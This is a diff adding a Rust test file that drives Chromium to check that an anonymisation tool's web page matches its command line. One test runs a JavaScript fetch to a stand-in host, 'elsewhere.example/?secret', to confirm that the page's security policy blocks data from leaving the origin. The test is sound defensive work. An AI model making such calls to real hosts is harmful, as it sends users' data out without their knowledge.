@@ -1,0 +1,275 @@
+//! The page in real Chromium: what a user does, compared with what the command line does.
+
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    reason = "helpers of tests: a failure here is a failed test"
+)]
+
+mod driver;
+mod page;
+mod sink;
+
+use std::time::Duration;
+
+use lookalike_tests::{data, program::Folder};
+use page::Page;
+use serde_json::json;
+
+/// Patients whose diagnoses allow m = 3.
+fn hospital() -> String {
+    lookalike_core::demo::hospital(300, 7)
+}
+
+const ROLES: [(&str, &str); 4] =
+    [("age", "quasi"), ("sex", "quasi"), ("nights", "quasi"), ("diagnosis", "sensitive")];
+
+/// What the command line makes of the same table: out.csv, classes.csv, report.json in the folder.
+fn command_line(folder: &Folder, m: &str, seed: &str, effort: &str) {
+    folder.succeed(&[
+        "anonymize",
+        "in.csv",
+        "--quasi",
+        "age,sex,nights",
+        "--sensitive",
+        "diagnosis",
+        "--model",
+        "m-invariance",
+        "--m",
+        m,
+        "--eligibility",
+        "add",
+        "--seed",
+        seed,
+        "--effort",
+        effort,
+        "-o",
+        "out.csv",
+        "--classes",
+        "classes.csv",
+        "--report",
+        "report.json",
+    ]);
+}
+
+/// Opens the table of a folder and fills in the form.
+async fn set_up(page: &Page, folder: &Folder, m: &str, seed: &str, effort: &str) {
+    page.upload(&folder.file("in.csv")).await;
+    for (column, role) in ROLES {
+        page.role(column, role).await;
+    }
+    page.choose("#model", "m-invariance").await;
+    page.fill("#m", m).await;
+    page.choose("#eligibility", "add").await;
+    page.fill("#seed", seed).await;
+    page.fill("#effort", effort).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn with_threads_the_page_gives_what_the_command_line_gives() {
+    let folder = Folder::new();
+    folder.write("in.csv", hospital());
+    // More than the largest m without changes, so that counterfeits are needed.
+    command_line(&folder, "6", "11", "20");
+    let page = Page::open(&[]).await;
+    assert_eq!(page.attribute("#threads", "data-isolated").await, "true");
+    let threads: usize = page.attribute("#threads", "data-threads").await.parse().unwrap();
+    assert!(threads >= 2, "{threads} threads");
+    set_up(&page, &folder, "6", "11", "20").await;
+    page.anonymize().await;
+    let worked: usize = page.attribute("[data-threads-worked]", "data-threads-worked").await.parse().unwrap();
+    assert!(worked >= 2, "only {worked} pool threads did work");
+    assert_eq!(text(&page.download("#download-table").await), folder.text("out.csv"));
+    assert_eq!(text(&page.download("#download-classes").await), folder.text("classes.csv"));
+    let (here, there) = (page.report().await, folder.json("report.json"));
+    assert_eq!(here["objective"], there["objective"]);
+    assert!(here["changes"]["counterfeits"].as_u64() > Some(0));
+    // The same integer programme, solved by another program on each side.
+    assert_eq!((&here["lp_backend"], &there["lp_backend"]), (&json!("microlp"), &json!("highs")));
+    assert_eq!(page.sink.requests(), Vec::<String>::new());
+    page.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn without_isolation_one_thread_gives_the_same() {
+    let folder = Folder::new();
+    folder.write("in.csv", hospital());
+    command_line(&folder, "3", "5", "5");
+    let page = Page::open(&["--no-isolation"]).await;
+    assert_eq!(page.attribute("#threads", "data-isolated").await, "false");
+    assert_eq!(page.attribute("#threads", "data-threads").await, "1");
+    set_up(&page, &folder, "3", "5", "5").await;
+    page.anonymize().await;
+    assert_eq!(page.attribute("[data-threads-worked]", "data-threads-worked").await, "1");
+    assert_eq!(text(&page.download("#download-table").await), folder.text("out.csv"));
+    assert_eq!(text(&page.download("#download-classes").await), folder.text("classes.csv"));
+    page.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_worker_gives_the_same_and_gets_numbers_only() {
+    let folder = Folder::new();
+    folder.write("in.csv", hospital());
+    command_line(&folder, "4", "3", "5");
+    let page = Page::open(&[]).await;
+    set_up(&page, &folder, "4", "3", "5").await;
+    page.click("#anonymize-remote").await;
+    page.verdict().await;
+    assert_eq!(text(&page.download("#download-table").await), folder.text("out.csv"));
+    assert_eq!(text(&page.download("#download-classes").await), folder.text("classes.csv"));
+    page.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn nothing_leaves_the_origin_and_the_policy_sees_to_it() {
+    let page = Page::open(&[]).await;
+    // The sample's way through, and then an attempt to send something out.
+    page.click("#sample-hospital").await;
+    page.find("#opened").await;
+    let attempt = "const done = arguments[arguments.length - 1];\
+        fetch('http://elsewhere.example/?secret').then(() => done('sent'), () => done('blocked'));";
+    assert_eq!(page.client.execute_async(attempt, vec![]).await.unwrap(), json!("blocked"));
+    assert_eq!(page.sink.requests(), Vec::<String>::new());
+    // The proxy does see what is not blocked: a navigation is beyond any policy.
+    let _ = page.client.goto("http://elsewhere.example/").await;
+    assert!(
+        page.sink.requests().iter().any(|r| r.contains("elsewhere.example")),
+        "{:?}",
+        page.sink.requests()
+    );
+    page.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_page_stays_responsive_and_stops_on_demand() {
+    for flags in [&[][..], &["--no-isolation"][..]] {
+        let folder = Folder::new();
+        folder.write("in.csv", lookalike_core::demo::hospital(3000, 7));
+        let page = Page::open(flags).await;
+        set_up(&page, &folder, "4", "1", "100000").await;
+        page.click("#anonymize").await;
+        page.find("#stop").await;
+        // Counts what the page's own event loop gets done while the engine searches.
+        let count = "const done = arguments[arguments.length - 1]; let n = 0;\
+            const timer = setInterval(() => { n += 1; if (n === 20) { clearInterval(timer); done(n); } }, 20);";
+        assert_eq!(page.client.execute_async(count, vec![]).await.unwrap(), json!(20));
+        let first = page.text("#moves").await;
+        let mut later = first.clone();
+        while later == first {
+            tokio::time::sleep(Duration::from_millis(100)).await;
+            later = page.text("#moves").await;
+        }
+        page.click("#stop").await;
+        page.verdict().await;
+        assert_eq!(page.report().await["status"], json!({ "name": "cancelled" }));
+        page.close().await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn bad_input_is_explained_and_nothing_is_lost() {
+    let folder = Folder::new();
+    folder.write("bad.csv", "age,sex\n1,2\n3\n");
+    folder.write("in.csv", hospital());
+    let page = Page::open(&[]).await;
+    page.find("#file-input").await.send_keys(&folder.file("bad.csv")).await.unwrap();
+    page.find("#failure").await;
+    let why = page.text("#failure").await;
+    assert!(why.contains("row 2"), "{why}");
+    set_up(&page, &folder, "12", "1", "1").await;
+    page.choose("#eligibility", "error").await;
+    page.click("#anonymize").await;
+    page.find("#failure").await;
+    let why = page.text("#failure").await;
+    assert!(why.contains("m = 12"), "{why}");
+    // Corrected in place: the table and the roles are still there.
+    page.fill("#m", "2").await;
+    page.anonymize().await;
+    page.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn census_data_goes_all_the_way() {
+    let Some(adult) = data::file("adult-train.csv") else { return };
+    let page = Page::open(&[]).await;
+    page.upload(&adult.display().to_string()).await;
+    for (column, role) in
+        [("age", "quasi"), ("sex", "quasi"), ("education-num", "quasi"), ("occupation", "sensitive")]
+    {
+        page.role(column, role).await;
+    }
+    page.choose("#model", "m-invariance").await;
+    page.fill("#m", "5").await;
+    page.choose("#missing-sensitive", "value").await;
+    page.fill("#seed", "1").await;
+    page.fill("#effort", "0.2").await;
+    page.anonymize().await;
+    let folder = Folder::new();
+    folder.succeed(&[
+        "anonymize",
+        &adult.display().to_string(),
+        "--quasi",
+        "age,sex,education-num",
+        "--sensitive",
+        "occupation",
+        "--missing-sensitive",
+        "value",
+        "--model",
+        "m-invariance",
+        "--m",
+        "5",
+        "--seed",
+        "1",
+        "--effort",
+        "0.2",
+        "-o",
+        "out.csv",
+        "--classes",
+        "classes.csv",
+    ]);
+    assert!(page.download("#download-classes").await == folder.read("classes.csv"), "the classes differ");
+    assert!(page.download("#download-table").await == folder.read("out.csv"), "the tables differ");
+    page.close().await;
+}
+
+/// Pictures of every state, for people: only with `LOOKALIKE_SHOTS=folder`.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn pictures_of_every_state() {
+    if std::env::var_os("LOOKALIKE_SHOTS").is_none() {
+        eprintln!("skipped: pictures are taken with LOOKALIKE_SHOTS=folder only");
+        return;
+    }
+    let folder = Folder::new();
+    folder.write("in.csv", hospital());
+    folder.write("long.csv", lookalike_core::demo::hospital(3000, 7));
+    for (width, dark) in [(1280, false), (1280, true), (500, false)] {
+        let name = |state: &str| format!("{width}-{}-{state}", if dark { "dark" } else { "light" });
+        let page = Page::open_as(&[], width, dark).await;
+        page.shot(&name("1-empty")).await;
+        page.find("#file-input").await.send_keys("/dev/null").await.unwrap();
+        page.find("#failure").await;
+        page.shot(&name("2-failure")).await;
+        set_up(&page, &folder, "12", "1", "20").await;
+        page.choose("#eligibility", "error").await;
+        page.shot(&name("3-form")).await;
+        page.click("#anonymize").await;
+        page.find("#failure").await;
+        page.shot(&name("4-infeasible")).await;
+        page.choose("#eligibility", "add").await;
+        page.fill("#m", "6").await;
+        page.anonymize().await;
+        page.shot(&name("5-result")).await;
+        page.fill("#effort", "100000").await;
+        page.click("#anonymize").await;
+        page.find("#stop").await;
+        tokio::time::sleep(Duration::from_secs(2)).await;
+        page.shot(&name("6-running")).await;
+        page.click("#stop").await;
+        page.close().await;
+    }
+}
+
+fn text(bytes: &[u8]) -> &str {
+    std::str::from_utf8(bytes).unwrap()
+}
